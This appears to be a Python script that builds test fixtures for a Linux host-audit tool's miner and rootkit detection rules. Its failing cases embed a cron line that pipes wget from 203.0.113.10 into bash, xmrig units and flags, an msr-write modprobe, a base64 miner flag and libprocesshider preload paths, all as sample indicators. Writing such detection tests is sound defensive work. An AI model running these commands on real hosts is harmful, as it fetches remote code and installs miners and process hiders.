write(C, "cloud-agent-not-running", "fail", "fail", "Aegis installed, processes gone", host(aegis(False)))


def cron_script(d):
    f = d["persistence"]["cron"]["files"][0]
    f["script_lines"].append({"line": 4, "text": "wget -q -O- http://203.0.113.10/x.sh | bash",
                              "indicators": [{"indicator": "download-pipe-shell",
                                              "match": "wget -q -O- http://203.0.113.10/x.sh | bash"}]})


def miner_unit(d):
    unit_temp(d)
    u = d["persistence"]["systemd"]["units"][-1]
    u["execs"][0].update({"program": "/usr/local/bin/xmrig", "command_line": "/usr/local/bin/xmrig",
                          "program_location": "system", "indicators": []})
    u["name"] = "xmrig.service"
    u["indicators"] = [{"indicator": "known-miner-unit-name", "match": "xmrig.service"}]


write(C, "cron-download-and-run", "fail-script", "fail", "a cron.hourly script that pipes wget into bash",
      host(cron_script))
write(C, "systemd-unit-exec-from-temp", "fail-miner-unit", "fail", "an xmrig.service unit", host(miner_unit))
write(C, "exe-deleted", "fail-tmp", "fail", "a deleted binary that ran from /tmp",
      host(add_proc(proc(4501, 1, "x", ["./x"], exe="/tmp/x", deleted=True, uid=33))))
write(M, "miner-command-line-flags", "fail-base64", "fail", "a dropper passing base64 of --donate-level=",
      host(add_proc(renamed(["sh", "-c", "echo LS1kb25hdGUtbGV2ZWw9MQ== | base64 -d"]))))
write(M, "miner-command-line-flags", "fail-msr", "fail", "xmrig's modprobe msr allow_writes=on",
      host(add_proc(proc(4310, 4300, "modprobe", ["modprobe", "msr", "allow_writes=on"], exe="/usr/bin/kmod"))))
write(M, "miner-stratum-url", "fail-daemon", "fail", "solo mining against a daemon+http URL",
      host(add_proc(renamed(["httpd-worker", "-o", "daemon+http://203.0.113.9:18081"]))))
write(M, "miner-wallet-argument", "pass-hash", "pass", "a 64-character hex digest as an argument",
      host(add_proc(renamed(["sha256sum", "-c", "4" + "f" * 63]))))


def with_library(path, reasons):
    p = proc(5000, 1, "nginx", ["nginx: worker process"], exe="/usr/sbin/nginx", uid=33)
    p["maps"]["suspicious_libraries"] = [{"path": path_fact(path, deleted="deleted" in reasons), "reasons": reasons}]
    return add_proc(p)


write(C, "injected-library", "pass", "pass", "clean host", host())
write(C, "injected-library", "pass-upgraded-libc", "pass", "libc replaced by an upgrade, the old one still mapped",
      host(with_library("/usr/lib/x86_64-linux-gnu/libc.so.6", ["deleted"])))
write(C, "injected-library", "fail", "fail", "a process hider mapped from /dev/shm",
      host(with_library("/dev/shm/.x/libprocesshider.so", ["temp-dir", "dot-dir", "unusual-dir"])))
write(C, "injected-library", "fail-deleted", "fail", "a library deleted from /etc after loading",
      host(with_library("/etc/libsystem.so", ["deleted", "unusual-dir"])))


def absent_sudoers(d):
    d["persistence"]["file_attributes"].append({"path": "/etc/sudoers.d/missing", "present": False, "error": None,
                                                "mtime_ms": None, "size": None, "truncated": False,
                                                "immutable": None, "append_only": None, "attributes_error": None})


write(C, "sensitive-file-immutable", "pass-absent-file", "pass", "an absent file has no attributes",
      host(absent_sudoers))


def offline_image(d):
    d["root"] = "/mnt/image"
    d["live"] = False
    reason = "live-kernel facts; not read with --root"
    d["processes"].update({"available": False, "unavailable_reason": reason, "list": [], "count": 0, "cpu": None,
                           "hidden_sweep": None})
    d["sockets"].update({"available": False, "unavailable_reason": reason, "list": [], "count": 0})
    d["kernel"].update({"available": False, "unavailable_reason": reason, "taint": None, "modules": []})


for pack, rule in [(M, "miner-process-name"), (M, "miner-pool-port-connection"), (C, "exe-deleted"),
                   (C, "fake-kernel-thread"), (C, "hidden-kernel-module")]:
    write(pack, rule, "skip-offline", "skip", "an offline image (--root): no processes, sockets or kernel",
          host(offline_image))


def cpu_gap(d):
    d["processes"]["cpu"].update({"host_busy_percent": 98.0, "process_percent": 12.0, "unaccounted_percent": 86.0})


write(C, "cpu-time-unaccounted", "pass", "pass", "3% of busy time unaccounted", host())
write(C, "cpu-time-unaccounted", "fail", "fail", "86% of the CPUs busy with no listed process to show for it",
      host(cpu_gap))
write(C, "cpu-time-unaccounted", "skip-no-sample", "skip", "CPU not sampled", host(no_cpu))


# --- signatures (YARA over executables and memory)
def sig_summary(d, matches_for=None):
    p = d["processes"]
    p["signatures"] = {
        "available": True, "unavailable_reason": None,
        "rule_files": ["/usr/share/hostaudit/policies/signatures/miners.yar",
                       "/usr/share/hostaudit/policies/signatures/tooling.yar"],
        "rules": ["Miner_Stratum_Protocol", "Miner_XMRig_Config", "Miner_RandomX_CryptoNight", "Miner_Pool_Domains",
                  "Miner_XMRig_Identity", "Tool_LibProcessHider", "Tool_Diamorphine"],
        "deep": False, "files_scanned": 6, "files_skipped": 0, "processes_memory_scanned": 1, "memory_bytes": 1048576,
        "per_process_memory_budget": 134217728, "total_memory_budget": 1073741824, "file_size_cap": 67108864,
        "duration_ms": 84.2, "errors": []}
    for q in p["list"]:
        q["signatures"] = {"matches": (matches_for or {}).get(q["pid"], []), "file_scanned": q["exe"] is not None,
                           "file_skipped": None, "file_sha256": None, "candidate_reasons": [],
                           "memory_scanned": False, "memory_bytes": 0, "memory_truncated": False, "errors": []}


def sig_match(rule, tags, where, path, region=None, offset=4096):
    return {"rule": rule, "namespace": "miners" if "miner" in tags else "tooling", "tags": tags, "where": where,
            "path": path, "region": region, "offset": offset, "string": "$url1", "string_matches": 3,
            "source": "see the rule file"}


# A renamed miner: kworker name, normal directory, no miner arguments; only memory shows it.
disguised = proc(4500, 1, "kworker/0:2", ["[kworker/0:2]"], exe="/usr/lib/x86_64-linux-gnu/kworkerd", uid=33)
mem_hit = {4500: [sig_match("Miner_Stratum_Protocol", ["miner"], "memory", "[heap]",
                            region="55d0c0a00000-55d0c0a21000 rw-p", offset=0x55d0c0a01234)]}
hider_hit = {950: [sig_match("Tool_LibProcessHider", ["rootkit", "preload"], "memory",
                             "/usr/local/lib/libprocesshider.so", region="7f00aa000000-7f00aa001000 rw-p")]}
write(M, "miner-signature-match", "pass", "pass", "signatures scanned, nothing matched",
      host(sig_summary))
write(M, "miner-signature-match", "fail-memory", "fail",
      "a process renamed [kworker/0:2] whose heap holds the stratum vocabulary",
      host(add_proc(disguised), lambda d: sig_summary(d, mem_hit)))
write(M, "miner-signature-match", "fail-file", "fail", "xmrig's executable matches its config-key rule",
      host(add_proc(xmrig), lambda d: sig_summary(d, {4242: [sig_match("Miner_XMRig_Config", ["miner"], "file",
                                                                        "/opt/xmrig/xmrig")]})))
write(M, "miner-signature-match", "pass-rootkit-only", "pass", "a rootkit match is not a miner match",
      host(lambda d: sig_summary(d, hider_hit)))
write(M, "miner-signature-match", "skip-no-signatures", "skip", "signatures not scanned (--no-signatures)", host())
write(M, "rootkit-signature-match", "pass", "pass", "signatures scanned, nothing matched", host(sig_summary))
write(M, "rootkit-signature-match", "fail", "fail", "libprocesshider code in a process's memory",
      host(lambda d: sig_summary(d, hider_hit)))
write(M, "rootkit-signature-match", "skip-no-signatures", "skip", "signatures not scanned", host())


# --- signatures over the files persistence points at
def persist_sig(matches=None):
    def c(d):
        targets = [{"path": "/etc/cron.daily/logrotate", "resolved_path": "/etc/cron.daily/logrotate", "areas": ["cron"],
                    "referenced_by": ["/etc/cron.daily/logrotate"], "scanned": True, "skipped": None, "size": 377,
                    "sha256": "3b9f1a4c0e2d7f6a5b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c", "matches": 0}]
        for m in matches or []:
            targets.append({"path": m["path"], "resolved_path": m["path"], "areas": m["areas"],
                            "referenced_by": m["referenced_by"], "scanned": True, "skipped": None, "size": 612,
                            "sha256": m["sha256"], "matches": 1})
        d["persistence"]["signatures"] = {
            "available": True, "unavailable_reason": None,
            "rules": ["Miner_Stratum_Protocol", "Miner_XMRig_Config", "Miner_RandomX_CryptoNight", "Miner_Pool_Domains",
                      "Miner_XMRig_Identity", "Tool_LibProcessHider", "Tool_Diamorphine"],
            "matches": matches or [], "targets": targets, "files_scanned": len(targets), "files_skipped": 0,
            "file_size_cap": 67108864, "errors": []}
    return c


def persist_match(rule, tags, path, areas, refs):
    return {"rule": rule, "namespace": "miners" if "miner" in tags else "tooling", "tags": tags, "path": path,
            "offset": 118, "string": "$k1", "string_matches": 5, "source": "see the rule file",
            "sha256": "9d4e1b7c2a3f5e6d8c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e2d", "areas": areas,
            "referenced_by": refs}


cron_miner = persist_match("Miner_XMRig_Config", ["miner"], "/usr/local/bin/.sysupdate.sh", ["cron"],
                           ["/etc/cron.d/sysupdate:2"])
preload_hider = persist_match("Tool_LibProcessHider", ["rootkit", "preload"], "/usr/local/lib/libprocesshider.so",
                              ["ld-so-preload"], ["/etc/ld.so.preload:1"])
write(M, "miner-signature-in-persistence", "pass", "pass", "persistence targets scanned, nothing matched",
      host(persist_sig()))
write(M, "miner-signature-in-persistence", "fail-cron-script", "fail",
      "a cron entry runs a script carrying xmrig's configuration keys", host(persist_sig([cron_miner])))
write(M, "miner-signature-in-persistence", "pass-rootkit-only", "pass",
      "a preloaded process hider is not a miner match", host(persist_sig([preload_hider])))
write(M, "miner-signature-in-persistence", "skip-no-signatures", "skip",
      "persistence targets not scanned (facts without --signatures)", host())
